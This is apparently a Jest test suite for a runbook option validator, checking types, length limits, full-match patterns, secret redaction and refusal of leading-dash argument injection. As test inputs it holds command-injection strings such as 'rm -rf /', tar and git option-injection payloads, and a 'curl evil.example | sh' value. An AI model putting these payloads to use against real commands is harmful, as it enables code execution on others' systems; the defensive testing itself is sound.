import { validateOptions, type OptionProblem, type ValidatedOptions } from './options.js';
import type { OptionDefinition } from './runbook.schema.js';

const valid = (defs: OptionDefinition[], input: Record<string, unknown>): ValidatedOptions => {
  const r = validateOptions(defs, input);
  if (!r.ok) throw new Error(`expected valid options, got ${JSON.stringify(r.problems)}`);
  return r.options;
};

const problems = (defs: OptionDefinition[], input: Record<string, unknown>): OptionProblem[] => {
  const r = validateOptions(defs, input);
  if (r.ok) throw new Error(`expected problems, got ${JSON.stringify(r.options.values)}`);
  return r.problems;
};

/** The single problem for one option definition and one value. */
const problemFor = (def: OptionDefinition, value: unknown): OptionProblem => {
  const p = problems([def], { [def.name]: value });
  expect(p).toHaveLength(1);
  return p[0];
};

const valueOf = (def: OptionDefinition, value: unknown): unknown =>
  valid([def], { [def.name]: value }).values[def.name];

describe('validateOptions', () => {
  describe('string', () => {
    const def: OptionDefinition = { name: 'service', type: 'string' };

    it('accepts a string as is', () => {
      expect(valueOf(def, 'nginx')).toBe('nginx');
      expect(valueOf(def, '')).toBe('');
      expect(valueOf(def, 'x; rm -rf / #')).toBe('x; rm -rf / #');
    });

    it.each([5, true, ['a'], { a: 1 }])('rejects the non-string %j', (v) => {
      expect(problemFor(def, v)).toEqual({
        path: 'options.service',
        option: 'service',
        rule: 'type',
        message: 'must be a string',
      });
    });

    it('rejects NUL characters', () => {
      expect(problemFor(def, 'a\0b')).toMatchObject({
        rule: 'type',
        message: 'contains a NUL character',
      });
    });

    it('limits length to 1024 characters by default', () => {
      expect(valueOf(def, 'x'.repeat(1024))).toHaveLength(1024);
      expect(problemFor(def, 'x'.repeat(1025))).toMatchObject({
        rule: 'max',
        message: 'must be at most 1024 characters',
      });
    });

    it('applies min and max lengths', () => {
      const d: OptionDefinition = { name: 's', type: 'string', min: 2, max: 4 };
      expect(valueOf(d, 'ab')).toBe('ab');
      expect(valueOf(d, 'abcd')).toBe('abcd');
      expect(problemFor(d, 'a')).toMatchObject({
        rule: 'min',
        message: 'must be at least 2 characters',
      });
      expect(problemFor(d, 'abcde')).toMatchObject({
        rule: 'max',
        message: 'must be at most 4 characters',
      });
    });

    it('lets an explicit max raise the default limit', () => {
      const d: OptionDefinition = { name: 's', type: 'string', max: 5000 };
      expect(valueOf(d, 'x'.repeat(5000))).toHaveLength(5000);
    });

    describe('pattern is a full match', () => {
      const p: OptionDefinition = { name: 'unit', type: 'string', pattern: '[a-z]+' };

      it('accepts a value that matches entirely', () => {
        expect(valueOf(p, 'nginx')).toBe('nginx');
      });

      it.each(['abc;rm', 'abc rm', ';abc', 'abc\n', 'abc\nrm', 'ABC', ''])(
        'rejects %j, which only matches in part or not at all',
        (v) => {
          expect(problemFor(p, v)).toEqual({
            path: 'options.unit',
            option: 'unit',
            rule: 'pattern',
            message: 'must match [a-z]+',
          });
        },
      );

      it('anchors every alternative, not just the first and last', () => {
        const alt: OptionDefinition = { name: 'a', type: 'string', pattern: 'start|stop' };
        expect(valueOf(alt, 'stop')).toBe('stop');
        expect(problemFor(alt, 'start; rm -rf /').rule).toBe('pattern');
        expect(problemFor(alt, 'x stop').rule).toBe('pattern');
      });

      it('ignores ^ and $ the author already wrote', () => {
        const anchored: OptionDefinition = { name: 'a', type: 'string', pattern: '^[0-9]+$' };
        expect(valueOf(anchored, '123')).toBe('123');
        expect(problemFor(anchored, '123\n').rule).toBe('pattern');
      });

      it('is Unicode-aware', () => {
        const u: OptionDefinition = { name: 'a', type: 'string', pattern: '.' };
        expect(valueOf(u, '😀')).toBe('😀');
      });
    });
  });

  describe('integer', () => {
    const def: OptionDefinition = { name: 'count', type: 'integer', min: 1, max: 10 };

    it('accepts numbers and numeric strings from the CLI', () => {
      expect(valueOf(def, 5)).toBe(5);
      expect(valueOf(def, '5')).toBe(5);
      expect(valueOf(def, ' 7 ')).toBe(7);
      expect(valueOf(def, '10')).toBe(10);
    });

    it.each(['5.5', 5.5, 'five', '', '  ', true, [5], 'NaN', 'Infinity'])(
      'rejects %j as not an integer',
      (v) => {
        expect(problemFor(def, v)).toMatchObject({ rule: 'type', message: 'must be an integer' });
      },
    );

    it('applies min and max', () => {
      expect(problemFor(def, 0)).toMatchObject({ rule: 'min', message: 'must be at least 1' });
      expect(problemFor(def, '11')).toMatchObject({ rule: 'max', message: 'must be at most 10' });
    });

    it('accepts negative integers when allowed', () => {
      expect(valueOf({ name: 'n', type: 'integer' }, '-3')).toBe(-3);
    });
  });

  describe('number', () => {
    const def: OptionDefinition = { name: 'rate', type: 'number', min: 0, max: 1 };

    it('accepts numbers and numeric strings', () => {
      expect(valueOf(def, 0.5)).toBe(0.5);
      expect(valueOf(def, '0.25')).toBe(0.25);
      expect(valueOf(def, '1')).toBe(1);
    });

    it.each(['abc', '', '1/2', Infinity, Number.NaN, { a: 1 }])(
      'rejects %j as not a number',
      (v) => {
        expect(problemFor(def, v)).toMatchObject({ rule: 'type', message: 'must be a number' });
      },
    );

    it('applies min and max', () => {
      expect(problemFor(def, -0.1)).toMatchObject({ rule: 'min', message: 'must be at least 0' });
      expect(problemFor(def, '1.5')).toMatchObject({ rule: 'max', message: 'must be at most 1' });
    });
  });

  describe('boolean', () => {
    const def: OptionDefinition = { name: 'force', type: 'boolean' };

    it('accepts booleans and the strings true and false', () => {
      expect(valueOf(def, true)).toBe(true);
      expect(valueOf(def, false)).toBe(false);
      expect(valueOf(def, 'true')).toBe(true);
      expect(valueOf(def, 'false')).toBe(false);
    });

    it.each(['yes', '1', 'TRUE', 1, 0, ''])('rejects %j', (v) => {
      expect(problemFor(def, v)).toMatchObject({ rule: 'type', message: 'must be true or false' });
    });
  });

  describe('enum', () => {
    const def: OptionDefinition = { name: 'env', type: 'enum', values: ['staging', 'production'] };

    it('accepts a listed value', () => {
      expect(valueOf(def, 'production')).toBe('production');
    });

    it.each(['prod', 'Production', 'production ', 1, ['staging']])('rejects %j', (v) => {
      expect(problemFor(def, v)).toEqual({
        path: 'options.env',
        option: 'env',
        rule: 'values',
        message: 'must be one of staging, production',
      });
    });
  });

  describe('list', () => {
    const def: OptionDefinition = { name: 'hosts', type: 'list' };

    it('accepts an array of strings', () => {
      expect(valueOf(def, ['a', 'b'])).toEqual(['a', 'b']);
      expect(valueOf(def, [])).toEqual([]);
    });

    it('splits a CLI string on commas, trimming items', () => {
      expect(valueOf(def, 'a,b')).toEqual(['a', 'b']);
      expect(valueOf(def, ' a , b ')).toEqual(['a', 'b']);
      expect(valueOf(def, 'single')).toEqual(['single']);
      expect(valueOf(def, '')).toEqual([]);
    });

    it.each([[[1, 2]], [['a', null]], [5], [true], [{ a: 'b' }]])('rejects %j', (v) => {
      expect(problemFor(def, v)).toMatchObject({
        rule: 'type',
        message: 'must be a list of strings',
      });
    });

    it('limits the number of items to 100 by default', () => {
      const many = Array.from({ length: 100 }, (_, i) => `h${i}`);
      expect(valueOf(def, many)).toHaveLength(100);
      expect(problemFor(def, [...many, 'h100'])).toMatchObject({
        rule: 'max',
        message: 'must have at most 100 items',
      });
    });

    it('applies min and max item counts', () => {
      const d: OptionDefinition = { name: 'l', type: 'list', min: 2, max: 3 };
      expect(problemFor(d, 'a')).toMatchObject({
        rule: 'min',
        message: 'must have at least 2 items',
      });
      expect(problemFor(d, 'a,b,c,d')).toMatchObject({
        rule: 'max',
        message: 'must have at most 3 items',
      });
      expect(valueOf(d, 'a,b,c')).toEqual(['a', 'b', 'c']);
    });

    it('checks each item against values, naming the item', () => {
      const d: OptionDefinition = { name: 'l', type: 'list', values: ['a', 'b'] };
      expect(valueOf(d, 'b,a')).toEqual(['b', 'a']);
      expect(problemFor(d, 'a,c')).toMatchObject({
        rule: 'values',
        message: 'item 2 must be one of a, b',
      });
    });

    it('checks each item against the pattern as a full match', () => {
      const d: OptionDefinition = { name: 'l', type: 'list', pattern: '[a-z]+' };
      expect(valueOf(d, 'abc,def')).toEqual(['abc', 'def']);
      expect(problemFor(d, ['abc', 'abc;rm'])).toMatchObject({
        rule: 'pattern',
        message: 'item 2 must match [a-z]+',
      });
    });

    it('rejects NUL characters in items', () => {
      expect(problemFor(def, ['ok', 'a\0b'])).toMatchObject({
        rule: 'type',
        message: 'item 2 contains a NUL character',
      });
    });
  });

  describe('secure', () => {
    const def: OptionDefinition = {
      name: 'token',
      type: 'secure',
      pattern: '[A-Za-z0-9]{8,}',
      min: 8,
      max: 64,
    };

    it('accepts a valid secret and lists it in secretValues', () => {
      const o = valid([def, { name: 'user', type: 'string' }], {
        token: 'Abcdefgh123',
        user: 'alice',
      });
      expect(o.values).toEqual({ token: 'Abcdefgh123', user: 'alice' });
      expect(o.secure).toEqual(new Set(['token']));
      expect(o.secretValues).toEqual(['Abcdefgh123']);
    });

    it('lists every secure value, but not absent or empty ones', () => {
      const o = valid(
        [
          { name: 'a', type: 'secure' },
          { name: 'b', type: 'secure' },
          { name: 'c', type: 'secure' },
        ],
        { a: 'one', c: '' },
      );
      expect(o.secure).toEqual(new Set(['a', 'b', 'c']));
      expect(o.secretValues).toEqual(['one']);
    });

    it.each([
      ['pattern', 'SECRET;rm-rf'],
      ['min', 'SECRET'],
      ['max', `SECRET${'x'.repeat(64)}`],
      ['type', 'SECRET\0nul'],
    ])('never echoes a value that fails %s', (rule, value) => {
      const p = problemFor(def, value);
      expect(p.rule).toBe(rule);
      expect(JSON.stringify(p)).not.toContain('SECRET');
    });

    it('never echoes a non-string secret', () => {
      const p = problemFor(def, 123456789);
      expect(p).toMatchObject({ rule: 'type', message: 'must be a string' });
      expect(JSON.stringify(p)).not.toContain('123456789');
    });

    it('never echoes a secret given for an unknown option', () => {
      const p = problems([def], { tokne: 'SECRETVALUE1' });
      expect(JSON.stringify(p)).not.toContain('SECRETVALUE1');
    });
  });

  describe('defaults and required', () => {
    it('uses the default when the option is absent, null or undefined', () => {
      const def: OptionDefinition = { name: 'count', type: 'integer', default: 3 };
      expect(valid([def], {}).values).toEqual({ count: 3 });
      expect(valid([def], { count: null }).values).toEqual({ count: 3 });
      expect(valid([def], { count: undefined }).values).toEqual({ count: 3 });
      expect(valid([def], { count: '7' }).values).toEqual({ count: 7 });
    });

    it('validates the default like any value', () => {
      const def: OptionDefinition = { name: 's', type: 'string', pattern: '[a-z]+', default: 'B' };
      expect(problems([def], {})[0]).toMatchObject({ rule: 'pattern' });
    });

    it('leaves an absent optional option without default out of the values', () => {
      expect(valid([{ name: 's', type: 'string' }], {}).values).toEqual({});
    });

    it('reports a required option that is missing or null', () => {
      const def: OptionDefinition = { name: 'service', type: 'string', required: true };
      const expected = {
        path: 'options.service',
        option: 'service',
        rule: 'required',
        message: 'is required',
      };
      expect(problems([def], {})).toEqual([expected]);
      expect(problems([def], { service: null })).toEqual([expected]);
    });

    it('lets a default satisfy required', () => {
      const def: OptionDefinition = {
        name: 'env',
        type: 'enum',
        values: ['a', 'b'],
        required: true,
        default: 'a',
      };
      expect(valid([def], {}).values).toEqual({ env: 'a' });
    });

    it('accepts an empty string for a required string (present, not missing)', () => {
      expect(valid([{ name: 's', type: 'string', required: true }], { s: '' }).values).toEqual({
        s: '',
      });
    });
  });

  describe('a leading "-" (argument injection)', () => {
    const str: OptionDefinition = { name: 'path', type: 'string' };
    const list: OptionDefinition = { name: 'files', type: 'list' };

    it.each([
      ['--checkpoint-action=exec=sh x'],
      ['-exec'],
      ['--upload-pack=touch /tmp/pwn'],
      ['-'],
      ['--'],
      ['-rf'],
    ])('refuses the string %j by name, unless the option allows it', (v) => {
      expect(problemFor(str, v)).toEqual({
        path: 'options.path',
        option: 'path',
        rule: 'allowLeadingDash',
        message: expect.stringMatching(/^must not start with "-": .*allowLeadingDash: true/),
      });
      expect(valueOf({ ...str, allowLeadingDash: true }, v)).toBe(v);
    });

    it('refuses a list item starting with "-" (JSON or a CLI comma list), naming the item', () => {
      expect(problemFor(list, ['a.txt', '-exec'])).toMatchObject({
        path: 'options.files',
        rule: 'allowLeadingDash',
        message: expect.stringMatching(/^item 2 must not start with "-"/),
      });
      expect(problemFor(list, 'a.txt, --upload-pack=x')).toMatchObject({
        rule: 'allowLeadingDash',
        message: expect.stringMatching(/^item 2 /),
      });
      expect(valueOf({ ...list, allowLeadingDash: true }, ['-x'])).toEqual(['-x']);
    });

    it('refuses a secure value starting with "-" without echoing it, unless the option allows it', () => {
      const secure: OptionDefinition = { name: 'token', type: 'secure' };
      const v = '--upload-pack=curl evil.example | sh #s3cr3t';
      const got = problems([secure], { token: v });
      expect(got).toEqual([
        {
          path: 'options.token',
          option: 'token',
          rule: 'allowLeadingDash',
          message: expect.stringMatching(/^must not start with "-": .*allowLeadingDash: true/),
        },
      ]);
      expect(JSON.stringify(got)).not.toContain('s3cr3t');
      expect(JSON.stringify(got)).not.toContain('upload-pack');
      expect(valueOf({ ...secure, allowLeadingDash: true }, v)).toBe(v);
      expect(valueOf(secure, 'pa-ss')).toBe('pa-ss');
    });

    it('a dash elsewhere, a default and a pattern that allows "-" change nothing', () => {
      expect(valueOf(str, 'a-b')).toBe('a-b');
      expect(valueOf(str, ' -x')).toBe(' -x');
      expect(problemFor({ ...str, pattern: '[a-z-]+' }, '-x').rule).toBe('allowLeadingDash');
      expect(problems([{ ...str, default: '-v' }], {})[0].rule).toBe('allowLeadingDash');
      // Numbers are not words a command parses as options by accident: -3 is still -3.
      expect(valueOf({ name: 'n', type: 'integer' }, '-3')).toBe(-3);
    });
  });

  describe('unknown options', () => {
    const defs: OptionDefinition[] = [
      { name: 'service', type: 'string' },
      { name: 'force', type: 'boolean' },
    ];

    it('suggests the closest known name', () => {
      expect(problems(defs, { servce: 'nginx' })).toEqual([
        {
          path: 'options.servce',
          option: 'servce',
          rule: 'unknown',
          message: 'unknown option (did you mean "service"?)',
        },
      ]);
    });

    it('gives no suggestion when nothing is close', () => {
      expect(problems(defs, { zzzzzzzz: 1 })[0].message).toBe('unknown option');
    });

    it('rejects unknown options when the runbook declares none', () => {
      expect(problems([], { anything: 1 })).toEqual([
        {
          path: 'options.anything',
          option: 'anything',
          rule: 'unknown',
          message: 'unknown option',
        },
      ]);
    });

    it('does not treat inherited names as given', () => {
      const def: OptionDefinition = { name: 'constructor', type: 'string', required: true };
      expect(problems([def], {})[0].rule).toBe('required');
    });
  });

  it('reports every problem at once and returns no partial values', () => {
    const defs: OptionDefinition[] = [
      { name: 'service', type: 'string', pattern: '[a-z]+', required: true },
      { name: 'count', type: 'integer', max: 5 },
      { name: 'force', type: 'boolean' },
      { name: 'env', type: 'enum', values: ['staging', 'production'], required: true },
      { name: 'ok', type: 'string' },
    ];
    const r = validateOptions(defs, {
      service: 'nginx;reboot',
      count: '9',
      force: 'maybe',
      extra: 1,
      ok: 'fine',
    });
    expect(r).toEqual({
      ok: false,
      problems: [
        {
          path: 'options.extra',
          option: 'extra',
          rule: 'unknown',
          message: 'unknown option',
        },
        {
          path: 'options.service',
          option: 'service',
          rule: 'pattern',
          message: 'must match [a-z]+',
        },
        { path: 'options.count', option: 'count', rule: 'max', message: 'must be at most 5' },
        {
          path: 'options.force',
          option: 'force',
          rule: 'type',
          message: 'must be true or false',
        },
        { path: 'options.env', option: 'env', rule: 'required', message: 'is required' },
      ],
    });
  });

  it('returns typed values for a mix of CLI strings', () => {
    const defs: OptionDefinition[] = [
      { name: 'count', type: 'integer' },
      { name: 'ratio', type: 'number' },
      { name: 'force', type: 'boolean' },
      { name: 'hosts', type: 'list' },
      { name: 'env', type: 'enum', values: ['a', 'b'] },
      { name: 'name', type: 'string' },
    ];
    expect(
      valid(defs, { count: '5', ratio: '0.5', force: 'true', hosts: 'a,b', env: 'b', name: '5' })
        .values,
    ).toEqual({ count: 5, ratio: 0.5, force: true, hosts: ['a', 'b'], env: 'b', name: '5' });
  });
});

describe('number strings', () => {
  it.each(['0x10', '0b11', '1e3', ' ', 'Infinity'])('refuses %j for an integer', (raw) => {
    const r = validateOptions([{ name: 'n', type: 'integer' }], { n: raw });
    expect(r.ok).toBe(false);
  });
});
